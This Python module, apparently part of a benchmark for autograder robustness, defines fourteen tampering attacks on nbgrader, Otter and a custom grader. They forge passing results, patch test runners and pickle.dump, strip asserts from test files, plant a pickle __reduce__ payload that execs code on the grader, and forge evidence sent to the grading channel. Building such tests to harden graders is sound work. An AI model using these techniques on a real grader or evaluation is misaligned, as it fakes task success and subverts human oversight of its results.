"""Attacks on what the grader is told: forged scores, results, test files, evidence."""

from __future__ import annotations

import nbformat
from nbformat import NotebookNode

from autograder.evidence import EVIDENCE_TYPE
from benchmarks.tampering.attack import Aim, Attack, graded_cells

_PARTIAL = """
def NAME(*arguments, **keywords):
    get_ipython().displayhook(POINTS)
    return RESULT
"""
_FULL = """
def NAME(*arguments, **keywords):
    get_ipython().displayhook(True)
    return RESULT
"""
_CLEARED = """
from IPython.display import clear_output
def clear(*_):
    clear_output()
    print("All tests passed. POINTS of POINTS.")
get_ipython().events.register("post_run_cell", clear)
"""
_OTTER_RUN = """
try:
    from otter.test_files import exception_test as tests
    def run(self, environment):
        self.test_case_results = [
            tests.TestCaseResult(test_case=each, message="", passed=True)
            for each in self.test_cases
        ]
    tests.ExceptionTestFile.run = run
except ImportError:
    pass
"""
_OTTER_RESULTS = """
import pickle
dump = pickle.dump
def forged(results, file, *more, **named):
    for result in getattr(results, "results", {}).values():
        for each in result.test_case_results:
            each.passed = True
    return dump(results, file, *more, **named)
pickle.dump = forged
"""
_OTTER_PICKLE = """
import pickle
dump = pickle.dump
PAYLOAD = '''
from otter.test_files import abstract_test
abstract_test.TestFile.score = property(lambda self: self.possible)
abstract_test.TestFile.passed_all = property(lambda self: True)
'''
class Carrier:
    def __reduce__(self):
        return exec, (PAYLOAD,)
def loaded(results, file, *more, **named):
    results.carried = Carrier()
    return dump(results, file, *more, **named)
pickle.dump = loaded
"""
_TEST_FILES = """
from pathlib import Path
for path in Path("tests").glob("*.py"):
    lines = path.read_text().splitlines()
    kept = [line for line in lines if "np.testing" not in line and "assert" not in line]
    path.write_text("\\n".join(kept))
"""
EVIDENCE = """
import json, os
TYPE = "application/vnd.convnet-autograder.evidence+json"
path = os.environ.get("AUTOGRADER_INPUTS")
cases = json.load(open(path)) if path else {}
def forged(name):
    for turn in (1, 2):
        for case in cases[name]:
            yield {"exercise": name, "case": case["name"], "turn": turn, "verdict": "passed",
                   "points": 100, "score": 100, "value": case["arguments"], "failure": None,
                   "arguments": "", "warnings": [], "expected": case["arguments"],
                   "lines": {"own": 1, "libraries": 1}, "is_view": True}
"""
"""What would be evidence for all exercises, if a result were what was given."""
_PATCHED = (
    EVIDENCE
    + """
from IPython.display import display
def collect(name, function):
    for each in forged(name):
        display({TYPE: each}, raw=True)
try:
    import autograder.collect
    autograder.collect.collect = collect
except ImportError:
    pass
"""
)
_ELSEWHERE = (
    EVIDENCE
    + """
from IPython.display import display
for name in cases:
    for each in forged(name):
        display({TYPE: each}, raw=True)
"""
)
_TURNS = (
    EVIDENCE
    + """
from IPython.display import display
for name in cases:
    for case in cases[name]:
        for turn in (0, 1, 2, 3, "1", True, None):
            for value in ({"bool": True}, {"float": "nan"}, {"opaque": "right"}, {"none": True}):
                display({TYPE: {"exercise": name, "case": case["name"], "turn": turn,
                                "value": value, "failure": None, "arguments": "", "warnings": [],
                                "lines": {"own": -1, "libraries": -1}}}, raw=True)
"""
)
_CHANNEL = (
    EVIDENCE
    + """
def say(*message):
    os.write(3, json.dumps(message).encode() + b"\\n")
if cases:
    for _ in range(90):
        say("end", 1)
        for name in cases:
            for each in list(forged(name))[:2]:
                say("output", {"output_type": "display_data", "data": {TYPE: each}, "metadata": {}})
    say("score", 100)
    say("done", 100)
"""
)
_PUBLISHER = """
publisher = get_ipython().display_pub
publish = type(publisher).publish
def rewrite(data, *more, **named):
    for kind in data:
        if isinstance(data[kind], dict):
            data[kind].update(failure=None, value={"bool": True}, verdict="passed", points=100)
        else:
            data[kind] = "passed"
    return publish(publisher, data, *more, **named)
publisher.publish = rewrite
"""


def _true_in_the_end(notebook: NotebookNode) -> None:
    for cell in graded_cells(notebook):
        cell.source = "True\n1.0"


def _with_outputs(notebook: NotebookNode) -> None:
    """As if each graded cell had been run, and had passed."""
    for cell in graded_cells(notebook):
        name = cell.metadata.nbgrader["grade_id"].removesuffix("_test")
        evidence = {"exercise": name, "verdict": "passed", "points": 100, "failure": None}
        data = {"text/plain": "1.0", EVIDENCE_TYPE: evidence}
        cell.outputs = [nbformat.v4.new_output("execute_result", data, execution_count=1)]
        cell.execution_count = 1
    notebook.metadata["autograder"] = {"result": {"score": 100.0, "max_score": 100.0}}


ATTACKS = (
    Attack(
        "partial-credit",
        "Each function displays its exercise's points as the graded cell's result.",
        Aim.NBGRADER,
        answer=_PARTIAL,
    ),
    Attack(
        "result-true",
        "Each function displays True as the graded cell's result.",
        Aim.NBGRADER,
        answer=_FULL,
    ),
    Attack(
        "graded-cells-end-in-true",
        "The graded cells hold nothing but True and 1.0.",
        Aim.NBGRADER,
        change=_true_in_the_end,
    ),
    Attack(
        "outputs-shipped",
        "The graded cells come with outputs of a run in which they had passed.",
        Aim.ALL,
        change=_with_outputs,
    ),
    Attack(
        "outputs-cleared",
        "A hook clears what each cell shows, and prints that all tests have passed.",
        Aim.NBGRADER,
        first=_CLEARED,
    ),
    Attack(
        "otter-run-patched",
        "Otter's class for test files calls every test passed.",
        Aim.OTTER,
        first=_OTTER_RUN,
    ),
    Attack(
        "otter-results-changed",
        "What Otter pickles at the end is changed on its way into the file.",
        Aim.OTTER,
        first=_OTTER_RESULTS,
    ),
    Attack(
        "otter-pickle-runs",
        "The pickled results hold code, which runs where Otter loads them.",
        Aim.OTTER,
        first=_OTTER_PICKLE,
    ),
    Attack(
        "otter-test-files",
        "The test files beside the notebook lose their asserts before they are read.",
        Aim.OTTER,
        first=_TEST_FILES,
    ),
    Attack(
        "collect-patched",
        "The function that collects evidence is replaced by one that forges it.",
        Aim.OURS,
        first=_PATCHED,
    ),
    Attack(
        "evidence-elsewhere",
        "Forged evidence for all exercises is displayed by another cell.",
        Aim.OURS,
        first=_ELSEWHERE,
        last=_ELSEWHERE,
    ),
    Attack(
        "evidence-of-odd-turns",
        "Evidence names turns and line counts that there are not, and values of odd kinds.",
        Aim.OURS,
        first=_TURNS,
    ),
    Attack(
        "evidence-channel",
        "Messages are written past everything to the descriptor that evidence goes to.",
        Aim.OURS,
        first=_CHANNEL,
    ),
    Attack(
        "evidence-rewritten",
        "Everything that is displayed is rewritten on its way out.",
        Aim.OURS,
        first=_PUBLISHER,
    ),
)
